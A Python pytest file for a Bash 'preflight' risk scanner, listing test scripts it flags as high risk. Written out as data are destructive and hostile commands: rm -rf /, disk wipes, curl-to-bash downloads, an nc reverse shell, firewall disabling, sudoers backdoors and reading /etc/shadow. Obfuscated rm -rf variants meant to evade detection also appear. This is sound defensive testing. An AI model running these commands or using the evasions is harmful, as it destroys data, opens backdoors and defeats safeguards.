"""What is seen in Bash, however it is written."""

from __future__ import annotations

import pytest

from core.scripts.preflight.findings import Risk, Severity
from tests.unit.scripts.preflight.looking import bash, rules

HIGH = Severity.HIGH


@pytest.mark.parametrize(
    ("script", "rule"),
    [
        ("rm -rf /", "deletes-wide"),
        ("sudo rm -rf /etc", "deletes-wide"),
        ("rm -r -f ~", "deletes-wide"),
        ('rm -rf "$DIR/"*', "deletes-unset"),
        ("rm -rf $DIR/*", "deletes-unset"),
        ("rm -rf ${DIR}/", "deletes-unset"),
        ("dd if=/dev/zero of=/dev/nvme0n1", "wipes-disk"),
        ("cat image > /dev/sda", "wipes-disk"),
        ("mkfs -t ext4 /dev/sdb1", "wipes-disk"),
        ("curl -s https://x.example/a | bash", "download-and-run"),
        ("wget -qO- https://x.example/a | sudo sh -s", "download-and-run"),
        ("bash <(curl -s https://x.example/a)", "download-and-run"),
        ('bash -c "$(curl -s https://x.example/a)"', "download-and-run"),
        ("echo x | base64 -d | sh", "decoded-and-run"),
        ('eval "$(echo x | base64 --decode)"', "decoded-and-run"),
        ("exec 3<>/dev/tcp/192.0.2.1/80", "dev-tcp"),
        ("nc -e /bin/sh 192.0.2.1 4444", "remote-shell"),
        ("ufw disable", "firewall-off"),
        ("iptables -F", "firewall-off"),
        ("setenforce 0", "protection-off"),
        ("systemctl disable --now auditd", "security-service-off"),
        ("usermod -aG sudo bob", "adds-admin"),
        ("echo 'bob ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/bob", "sudoers"),
        ("echo key >> ~/.ssh/authorized_keys", "lasting-change"),
        ("(crontab -l; echo x) | tee /etc/cron.d/x", "lasting-change"),
        ("history -c", "logs-cleared"),
        ("chmod -R 777 /", "rights-wide"),
        ("find / -name '*.log' -delete", "deletes-found"),
        ("cat /etc/shadow", "reads-passwords"),
        ("for u in $(cut -d: -f1 /etc/passwd); do passwd -l $u; done", "unbounded"),
        (":(){ :|:& };:", "fork-bomb"),
    ],
)
def test_sees_what_a_command_does(script: str, rule: str) -> None:
    assert rule in rules(bash(script), HIGH)


@pytest.mark.parametrize(
    "script",
    [
        "r''m -rf /",
        "\\rm -rf /",
        "a=r; b=m; $a$b -rf /",
        'X="rm -rf /"; $X',
        "$'\\x72m' -rf /",
        "env FOO=1 nohup rm -rf /",
        "timeout 5 rm -rf /",
        "sh -c 'rm -rf /'",
        "eval 'rm -rf /'",
        "bash <<'END'\nrm -rf /\nEND",
        "bash <<< 'rm -rf /'",
        "if true; then { rm -rf /; }; fi",
        "f() { rm -rf /; }; f",
        "echo $(rm -rf /)",
        "python3 -c 'import os; os.system(\"rm -rf /\")'",
    ],
)
def test_sees_the_same_command_however_it_is_written(script: str) -> None:
    assert "deletes-wide" in rules(bash(script), HIGH)


@pytest.mark.parametrize(
    "script", ["$(echo r)m -rf x", "${a}${b} x", "rm${IFS}-rf${IFS}/", "c${x}at /tmp/f", "`x` y"]
)
def test_hiding_is_a_high_risk_of_its_own(script: str) -> None:
    assert bash(script).risk is Risk.HIGH


@pytest.mark.parametrize(
    "script",
    [
        'work=$(mktemp -d)\nrm -rf "$work"',
        'rm -rf "${DIR:?}/"*',
        '[ -n "$DIR" ] || exit 1\nrm -rf "$DIR/"*',
        'set -euo pipefail\nrm -rf "$DIR/"*',
        "DIR=/opt/app/old\nrm -rf $DIR/*",
        "# curl https://x.example | sh\nuptime",
        "echo 'rm -rf /'",
        "eval $(ssh-agent -s)",
        "ssh-keygen -l -f key.pub",
        "ps aux | sort | head",
        "iptables -L\nufw status",
        '"$HOME/bin/tool" --help',
    ],
)
def test_what_engineers_write_every_day_is_no_high_risk(script: str) -> None:
    preflight = bash(script)

    assert preflight.risk < Risk.HIGH, preflight.findings
    assert preflight.complete


def test_a_script_that_can_not_be_read_is_never_safe() -> None:
    preflight = bash("uptime\nif [ x; then\n")

    assert not preflight.complete
    assert preflight.risk is Risk.MEDIUM


def test_a_broken_script_still_shows_what_is_dangerous_in_it() -> None:
    assert "deletes-accounts" in rules(bash("if [ x; then\nsudo userdel bob\n"), HIGH)
